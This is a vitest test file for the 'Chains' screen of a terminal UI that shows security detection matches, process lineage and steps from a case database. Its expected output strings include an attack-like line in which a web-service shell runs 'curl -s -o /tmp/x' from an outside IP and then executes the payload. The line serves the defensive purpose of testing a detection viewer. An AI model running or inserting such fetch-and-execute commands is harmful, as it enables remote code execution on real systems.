import { render } from 'ink-testing-library';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { openCaseForWrite } from '../../src/db/open.js';
import { App } from '../../src/tui/app.js';
import { openCaseSource, type CaseSource } from '../../src/tui/data/case-source.js';
import { addStoryChains, withoutChainTables, type StoryChains } from './support/chain-case.js';
import { KEYS, press, waitForFrame } from './support/frames.js';
import { storyCase, type StoryCase } from './support/story-case.js';

let story: StoryCase;
let empty: StoryCase;
let chains: StoryChains;
let source: CaseSource;
let app: ReturnType<typeof render> | null = null;
const opened: CaseSource[] = [];

beforeAll(() => {
  story = storyCase();
  chains = addStoryChains(story.dbPath);
  empty = storyCase({ alerts: false });
  source = openCaseSource(story.dbPath);
});
afterEach(() => {
  app?.unmount();
  app = null;
});
afterAll(async () => {
  await Promise.all([source, ...opened].map((s) => s.close()));
  story.cleanup();
  empty.cleanup();
});

function start(on: CaseSource = source): ReturnType<typeof render> {
  app = render(<App source={on} fallbackSize={{ columns: 100, rows: 30 }} />);
  return app;
}

async function chainsScreen(on: CaseSource = source): Promise<{ frame: string; stdin: { write(s: string): void }; lastFrame: () => string | undefined }> {
  const { lastFrame, stdin } = start(on);
  await waitForFrame(lastFrame, (f) => f.includes('Containers'));
  const frame = await press(stdin, lastFrame, '4', (f) => f.includes('[4 Chains]'));
  return { frame, stdin, lastFrame };
}

const lines = (frame: string): string[] => frame.split('\n');
const matchLine = (frame: string): string => lines(frame).find((l) => /^› \d{4}-\d\d-\d\dT\d\d:/.test(l)) ?? '';
const stepLine = (frame: string): string => lines(frame).find((l) => /^› [a-z]+ +\d{4}-/.test(l)) ?? '';

describe('chains screen', () => {
  it('lists the matches by start time with last-step time, priority, chain, host/container and output', async () => {
    const { frame, lastFrame } = await chainsScreen();
    const stdout = app!.stdout;
    expect(frame).toContain('Chains · 2 matches by start time');
    const all = lines(frame);
    const host = all.findIndex((l) => l.includes('Interactive shell reads'));
    const payload = all.findIndex((l) => l.includes('Web service shell fetches'));
    expect(host).toBeGreaterThan(-1);
    expect(payload).toBeGreaterThan(host); // bash started before the web shell, though stored later
    expect(all[host]).toMatch(/^› 2024-11-28T13:20:19\.426\d{6}Z {2}Notice {4}Interactive shell reads hos… {2}node-1\/host {2}bash read \/e…$/); // cut to the 100 columns
    expect(all[payload]).toMatch(/^ {2}2024-11-28T13:20:16\.425\d{6}Z {2}Critical {2}Web service shell fetches a… {2}node-1\/3f9a1c0e2b7d {2}payl…$/);
    // A wider terminal shows more of the output.
    Object.defineProperty(stdout, 'columns', { value: 180, configurable: true });
    stdout.emit('resize');
    const wide = await waitForFrame(lastFrame, (f) => f.includes('payload run from /tmp/x after curl -s -o /tmp/x http://203.0.113.7/x'));
    expect(wide).toContain('bash read /etc/hostname');
    expect(wide).toContain('· 2 alerts · 2 chains'); // the header counts the stored matches
  });

  it('prints times as the CLI does: ISO 8601 UTC by default, or the --tz zone / --time-format falco the TUI was given', async () => {
    app = render(<App source={source} fallbackSize={{ columns: 100, rows: 30 }} timeStyle={{ format: 'iso', tz: 'America/New_York' }} />);
    let frame = await waitForFrame(app.lastFrame, (f) => f.includes('Containers'));
    frame = await press(app.stdin, app.lastFrame, '4', (f) => f.includes('[4 Chains]'));
    expect(frame).toMatch(/^› 2024-11-28T08:20:19\.426800000-05:00 {2}Notice/m);
    app.unmount();
    app = render(<App source={source} fallbackSize={{ columns: 100, rows: 30 }} timeStyle={{ format: 'falco' }} />);
    await waitForFrame(app.lastFrame, (f) => f.includes('Containers'));
    frame = await press(app.stdin, app.lastFrame, '3', (f) => f.includes('[3 Alerts]'));
    expect(frame).toMatch(/^[› ] Warning {3}13:20:\d\d\.\d{9} {2}Read sensitive file untrusted/m);
  });

  it("shows the selected match's steps with their exec, process, command line and lineage path", async () => {
    const { stdin, lastFrame } = await chainsScreen();
    const frame = await press(stdin, lastFrame, 'j', (f) => matchLine(f).includes('Web service shell'));
    expect(frame).toMatch(/3 steps · 2024-11-28T13:20:15\.016\d{6}Z → 2024-11-28T13:20:16\.425\d{6}Z \(1\.4 s\)/);
    expect(stepLine(frame)).toMatch(
      new RegExp(`^› shell {2}2024-11-28T13:20:15\\.016\\d{6}Z {2}exec ${chains.execs.sh} {2}sh,4001 {2}sh -c curl -s -o /tmp/x`),
    );
    expect(frame).toContain('    nginx,2351 → sh,4001');
    expect(frame).toMatch(
      new RegExp(`  fetch  2024-11-28T13:20:15\\.017\\d{6}Z  exec ${chains.execs.curl}  curl,4002  curl -s -o /tmp/x http://203\\.0\\.113\\.7/x`),
    );
    expect(frame).toContain('    descendant_of shell: sh,4001 → curl,4002');
    expect(frame).toMatch(new RegExp(`  run    2024-11-28T13:20:16\\.425\\d{6}Z  exec ${chains.execs.x}  x,4005  x`));
    expect(frame).toContain('    descendant_of shell: sh,4001 → x,4005');
  });

  it('moves the step cursor with ←→ and Tab, restarts it on another match, and Enter opens that process in the tree', async () => {
    const { stdin, lastFrame } = await chainsScreen();
    let frame = await press(stdin, lastFrame, 'j', (f) => matchLine(f).includes('Web service shell'));
    frame = await press(stdin, lastFrame, KEYS.right, (f) => stepLine(f).startsWith('› fetch'));
    frame = await press(stdin, lastFrame, KEYS.right, (f) => stepLine(f).startsWith('› run'));
    // → stops at the last step, Tab wraps round: from run, → Tab is shell (had → wrapped, it would be fetch).
    frame = await press(stdin, lastFrame, `${KEYS.right}${KEYS.tab}`, (f) => !stepLine(f).startsWith('› run'));
    expect(stepLine(frame)).toMatch(/^› shell/);
    frame = await press(stdin, lastFrame, '\x1b[Z', (f) => stepLine(f).startsWith('› run')); // Shift+Tab wraps back
    frame = await press(stdin, lastFrame, 'hh', (f) => stepLine(f).startsWith('› shell'));
    frame = await press(stdin, lastFrame, 'k', (f) => matchLine(f).includes('Interactive shell'));
    expect(stepLine(frame)).toMatch(/^› shell .* bash,3100/); // another match starts at its first step
    frame = await press(stdin, lastFrame, `j${KEYS.right}${KEYS.right}`, (f) => matchLine(f).includes('Web service') && stepLine(f).startsWith('› run'));
    frame = await press(stdin, lastFrame, KEYS.enter, (f) => f.includes('[2 Tree]'));
    expect(frame).toContain('Tree: container nginx 3f9a1c0e2b7d');
    expect(frame).toMatch(/^\* .*x 4005 sig 9/m); // the tree's selection, with the ancestry pane focused
    expect(frame).toMatch(/›\s+└ x 4005/);
    expect(frame).toContain(`exec ${chains.execs.x} · x · pid 4005`);
  });

  it('Enter on a step opens that step, not the one that completed the match', async () => {
    const { stdin, lastFrame } = await chainsScreen();
    await press(stdin, lastFrame, `j${KEYS.right}`, (f) => matchLine(f).includes('Web service') && stepLine(f).startsWith('› fetch'));
    const frame = await press(stdin, lastFrame, KEYS.enter, (f) => f.includes('[2 Tree]'));
    expect(frame).toMatch(/^\* .*curl 4002 exit 0/m);
    expect(frame).toContain(`exec ${chains.execs.curl} · curl · pid 4002`);
    const back = await press(stdin, lastFrame, '4', (f) => f.includes('[4 Chains]'));
    expect(matchLine(back)).toContain('Web service shell'); // the list keeps its place
  });

  it('loads the next page of matches when the cursor reaches the last one loaded', async () => {
    const many = storyCase({ alerts: false });
    const db = openCaseForWrite(many.dbPath);
    const insert = db.prepare(`INSERT INTO chains (chain, priority, host_id, container_id, first_exec_id, last_exec_id, start_ns, end_ns, output, run_ns)
      VALUES (?, 'Notice', 1, NULL, 1, 1, ?, ?, 'many', 0)`);
    for (let i = 0; i < 450; i++)
      insert.run(`chain ${String(i).padStart(3, '0')}`, 1732800000000000000n + BigInt(i) * 1_000_000n, 1732800000000000000n + BigInt(i) * 1_000_000n);
    db.close();
    const on = openCaseSource(many.dbPath);
    try {
      const { frame, stdin, lastFrame } = await chainsScreen(on);
      expect(frame).toContain('Chains · 200+ matches');
      const next = await press(stdin, lastFrame, 'j'.repeat(199), (f) => f.includes('400+ matches'));
      expect(matchLine(next)).toContain('chain 199');
      const last = await press(stdin, lastFrame, 'j'.repeat(300), (f) => f.includes('450 matches'));
      expect(matchLine(last)).toContain('chain 449');
    } finally {
      app?.unmount();
      app = null;
      await on.close();
      many.cleanup();
    }
  });

  it('says so in one line when the case has the tables but no matches', async () => {
    const none = openCaseSource(empty.dbPath);
    opened.push(none);
    const { frame } = await chainsScreen(none);
    expect(frame).toContain('No chain matches in this case');
    expect(frame).not.toContain('Chains ·');
  });

  it('a case made before chain tables is refused in one line that names the upgrade', () => {
    const oldPath = withoutChainTables(empty.dbPath, empty.dir);
    expect(() => openCaseSource(oldPath)).toThrow(/written by an earlier pedigree .*pedigree db upgrade --db/);
  });
});
